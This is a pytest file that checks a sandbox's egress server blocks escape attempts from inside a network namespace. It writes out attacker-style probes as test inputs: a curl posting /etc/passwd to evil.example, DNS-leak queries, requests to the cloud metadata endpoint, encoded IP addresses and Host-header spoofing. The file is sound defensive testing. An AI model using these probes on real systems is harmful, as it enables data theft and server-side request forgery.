"""Programs in a real namespace, and the egress server at its listeners: what an attacker in the box tries, as root too."""

import asyncio
import os
import socket
import ssl
import sys
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from subprocess import CompletedProcess

import pytest

from sandbox_server.egress import resolver
from sandbox_server.egress.app import EgressServer
from sandbox_server.egress.original_destination import original_destination
from tests.certificates import certificate
from tests.client_hellos import real
from tests.egress.conftest import OUTSIDE, EgressLab
from tests.egress.heard_events import HeardEvents
from tests.egress_namespaces import NetworkBox
from tests.refusals import assert_not_timed_out

pytestmark = pytest.mark.anyio
ACCESS_DENIED = "alert access denied"


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory) -> Iterator[NetworkBox]:
    """A namespace for all tests."""
    made = NetworkBox(tmp_path_factory.mktemp("egress"), [8080])
    yield made
    made.close()


@pytest.fixture
async def lab(monkeypatch: pytest.MonkeyPatch, box: NetworkBox) -> AsyncIterator[EgressLab]:
    """An egress server at the listeners of the namespace, with servers outside on ports 80 and 443."""
    made = EgressLab()
    await made.server.close()
    monkeypatch.setattr(resolver, "_addresses", made.resolve)
    inside = box.namespace
    listeners, packets, queries, forwarded, logs, owners = (
        [socket.socket(fileno=os.dup(fd)) for fd in fds]
        for fds in (inside.connections, inside.packets, inside.queries, inside.forwarded, inside.log, inside.owners)
    )
    made.server = EgressServer(made.policy, made.names, original_destination, owners[0])
    made.events = made.server.events.follow()
    made.heard_events = HeardEvents(made.events.__enter__())
    made.server.start(listeners, packets, queries)
    made.rules(made.allow("a.example", "b.example"))
    await made.serve(80, answer=b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi")
    await made.serve(443)
    made.server.forward(forwarded[0], OUTSIDE, 80)
    made.server.follow_log(logs[0])
    yield made
    await made.close()
    for sock in (*listeners, *packets, *queries, *forwarded, *logs, *owners):
        sock.close()


async def run(box: NetworkBox, *argv: str, uid: int = 0) -> CompletedProcess[str]:
    return await asyncio.to_thread(box.run, *argv, uid=uid)


async def curl(box: NetworkBox, *arguments: str, uid: int = 0) -> CompletedProcess[str]:
    done = await run(box, "curl", "-sS", "--noproxy", "*", "--max-time", "20", *arguments, uid=uid)
    assert_not_timed_out(done.stderr)
    return done


async def python(box: NetworkBox, script: str) -> str:
    done = await run(box, sys.executable, "-c", script)
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


@pytest.mark.parametrize("uid", [0, 1000])
async def test_an_allowed_name_is_reached(lab: EgressLab, box: NetworkBox, uid: int) -> None:
    assert (await curl(box, "http://a.example/", uid=uid)).stdout == "hi"
    assert (await lab.event("open"))["uid"] == uid


@pytest.mark.parametrize(("url", "uid"), [("http://evil.example/", 1000), ("http://[2606:4700::1111]/", 0)])
async def test_who_was_refused_is_told(lab: EgressLab, box: NetworkBox, url: str, uid: int) -> None:
    await curl(box, url, uid=uid)
    assert (await lab.event("refused"))["uid"] == uid


async def test_a_denied_name_is_refused_with_the_rule(lab: EgressLab, box: NetworkBox) -> None:
    plain = await curl(box, "-w", "%{http_code}", "http://evil.example/?q=secret")
    assert "evil.example:80" in plain.stdout
    assert plain.stdout.endswith("403")
    assert ACCESS_DENIED in (await curl(box, "https://evil.example/")).stderr
    assert lab.asked == []


async def test_data_does_not_leave_in_a_request_that_is_denied(lab: EgressLab, box: NetworkBox) -> None:
    done = await curl(box, "-w", "%{http_code}", "--data-binary", "@/etc/passwd", "http://evil.example/")
    assert done.stdout.endswith("403")
    assert lab.heard == {}


@pytest.mark.parametrize(
    "arguments",
    [
        ["--resolve", "evil.example:443:{a}", "https://evil.example/"],
        ["--connect-to", "evil.example:443:a.example:443", "https://evil.example/"],
        ["--resolve", "b.example:443:{a}", "https://b.example/"],
    ],
)
async def test_another_name_at_an_allowed_address_is_refused(lab: EgressLab, box: NetworkBox, arguments: list[str]) -> None:
    address = str(lab.names.address_of("a.example"))
    done = await curl(box, *[argument.replace("{a}", address) for argument in arguments])
    assert ACCESS_DENIED in done.stderr
    assert lab.heard == {}


async def test_an_allowed_name_at_a_foreign_address_does_not_reach_that(lab: EgressLab, box: NetworkBox) -> None:
    done = await curl(box, "-w", "%{http_code}", "--resolve", "a.example:80:1.2.3.4", "http://a.example/")
    assert done.stdout.endswith("403")
    assert lab.heard == {}


@pytest.mark.parametrize("header", ["Host: evil.example", "Host: 127.0.0.1"])
async def test_another_host_in_the_request_is_refused(lab: EgressLab, box: NetworkBox, header: str) -> None:
    assert (await curl(box, "-w", "%{http_code}", "-H", header, "http://a.example/")).stdout.endswith("403")


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.11/",
        "http://10.0.0.1/",
        "http://172.17.0.1/",
        "http://8.8.8.8/",
        "http://[2606:4700::1111]/",
        "http://[::ffff:8.8.8.8]/",
        "http://2852039166/",
        "http://0xa9fea9fe/",
    ],
)
async def test_addresses_are_refused(lab: EgressLab, box: NetworkBox, url: str) -> None:
    done = await curl(box, "-w", "%{http_code}", url)
    assert done.stdout.endswith("403") or "Could not" in done.stderr or "refused" in done.stderr, done


async def test_a_name_that_resolves_to_this_machine_is_refused(lab: EgressLab, box: NetworkBox) -> None:
    lab.hosts["a.example"] = ["127.0.0.1"]
    done = await curl(box, "-w", "%{http_code}", "http://a.example/")
    assert done.stdout.endswith("403")
    assert "protected" in done.stdout


async def test_a_redirect_to_a_private_address_is_refused(lab: EgressLab, box: NetworkBox) -> None:
    await lab.serve(
        8000, answer=b"HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    )
    done = await curl(box, "-L", "-w", "%{http_code}", "http://a.example:8000/")
    assert done.stdout.endswith("403")


@pytest.mark.parametrize("server", ["8.8.8.8", "127.0.0.11", "2001:4860:4860::8888"])
@pytest.mark.parametrize("protocol", ["udp", "tcp"])
async def test_every_dns_server_is_ours_and_asks_nobody(lab: EgressLab, box: NetworkBox, server: str, protocol: str) -> None:
    script = f"""
import dns.message, dns.query, dns.rcode
answer = dns.query.{protocol}(dns.message.make_query("leak.evil.example", "A"), "{server}", timeout=10)
print(answer.answer[0][0])
answer = dns.query.{protocol}(dns.message.make_query("leak.evil.example", "TXT"), "{server}", timeout=10)
print(dns.rcode.to_text(answer.rcode()))
"""
    assert await python(box, script) == f"{lab.names.address_of('leak.evil.example')}\nNOTIMP"
    assert (await lab.event("dns"))["name"] == "leak.evil.example"
    assert lab.asked == []


async def test_names_of_other_protocols_for_dns_are_refused(lab: EgressLab, box: NetworkBox) -> None:
    assert ACCESS_DENIED in (await curl(box, "https://dns.google/dns-query?dns=AAAA")).stderr
    assert "curl" in (await curl(box, "--resolve", "one:443:1.1.1.1", "https://one/")).stderr
    with_tls = "import socket; socket.create_connection(('8.8.8.8', 853), 5).recv(1)"
    assert "ConnectionResetError" in (await run(box, sys.executable, "-c", with_tls)).stderr


async def test_a_client_without_a_server_name_is_refused(lab: EgressLab, box: NetworkBox) -> None:
    script = f"""
import socket
sock = socket.create_connection(("a.example", 443), 10)
sock.sendall(bytes.fromhex("{real(None).hex()}"))
print(sock.recv(10).hex())
"""
    assert await python(box, script) == "15030300020231"


async def test_connecting_to_the_listener_itself_is_refused(lab: EgressLab, box: NetworkBox) -> None:
    done = await curl(box, "-w", "%{http_code}", "http://127.0.0.1:15001/")
    assert done.stdout.endswith("403")
    assert "(protected)" in done.stdout


async def test_nobody_in_the_box_listens_in_its_place(lab: EgressLab, box: NetworkBox) -> None:
    script = """
import socket
sock = socket.socket()
sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
try:
    sock.bind(("127.0.0.1", 15001))
except OSError as error:
    print(error.errno)
"""
    assert await python(box, script) == "98"


async def test_a_forwarded_port_leads_to_its_service(lab: EgressLab, box: NetworkBox) -> None:
    assert (await curl(box, "http://127.0.0.1:8080/")).stdout == "hi"


async def test_ten_connections_at_once_by_name_all_arrive(lab: EgressLab, box: NetworkBox) -> None:
    script = """
import socket, threading
def get():
    with socket.create_connection(("a.example", 80), 20) as sock:
        sock.sendall(b"GET / HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n")
        print(sock.recv(100).split()[1].decode())
threads = [threading.Thread(target=get) for _ in range(100)]
[each.start() for each in threads]
[each.join() for each in threads]
"""
    assert (await python(box, script)).split() == ["200"] * 100


async def test_no_program_reads_a_name_from_its_address(lab: EgressLab, box: NetworkBox) -> None:
    address = lab.names.address_of("a.example")
    script = f"import socket\ntry: print(socket.gethostbyaddr('{address}'))\nexcept socket.herror as error: print(error)"
    assert await python(box, script) == "[Errno 1] Unknown host"


async def test_the_next_process_serves_what_waited(lab: EgressLab, box: NetworkBox) -> None:
    await lab.server.close()
    waiting = asyncio.ensure_future(curl(box, "http://a.example/"))
    made = EgressServer(lab.policy, lab.names, original_destination)
    found = [[socket.socket(fileno=os.dup(fd)) for fd in fds] for fds in (box.namespace.connections, box.namespace.packets)]
    made.start(*found)
    lab.server = made
    assert (await waiting).stdout == "hi"
    for sock in (*found[0], *found[1]):
        sock.close()


async def test_a_policy_that_is_put_in_force_holds_for_the_next_connection(lab: EgressLab, box: NetworkBox, tmp_path: Path) -> None:
    assert (await curl(box, "http://b.example/")).stdout == "hi"
    lab.rules(lab.allow("a.example"))
    assert "403" in (await curl(box, "-w", "%{http_code}", "http://b.example/")).stdout


@pytest.mark.parametrize(("address", "port"), [("8.8.8.8", 443), ("2001:4860:4860::8888", 123)])
async def test_packets_that_are_refused_are_told_with_their_user(lab: EgressLab, box: NetworkBox, address: str, port: int) -> None:
    script = f"""
import socket
sock = socket.socket(socket.AF_INET6 if ":" in "{address}" else socket.AF_INET, socket.SOCK_DGRAM)
try:
    sock.sendto(b"x", ("{address}", {port}))
except PermissionError:
    print("refused")
"""
    assert (await run(box, sys.executable, "-c", script, uid=1000)).stdout.strip() == "refused"
    event = await lab.event("refused")
    assert (event["rule"], event["reason"], event["uid"]) == ("packets", "udp is not allowed", 1000)
    assert str(event["destination"]).endswith(f":{port}")


async def test_tls_passes_whole_and_its_certificate_stays_the_servers(lab: EgressLab, box: NetworkBox, tmp_path: Path) -> None:
    path = certificate(tmp_path, "a.example")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(path)
    content = b"x" * (3 << 20)

    async def attend(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(f"HTTP/1.1 200 OK\r\nContent-Length: {len(content)}\r\nConnection: close\r\n\r\n".encode() + content)
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(attend, OUTSIDE, 8443, ssl=context)
    os.chmod(tmp_path, 0o755)
    done = await curl(box, "--cacert", str(path), "-o", "/dev/null", "-w", "%{http_code} %{size_download}", "https://a.example:8443/")
    assert (done.stdout, done.stderr) == (f"200 {len(content)}", "")
    assert "certificate" in (await curl(box, "https://a.example:8443/")).stderr
    server.close()
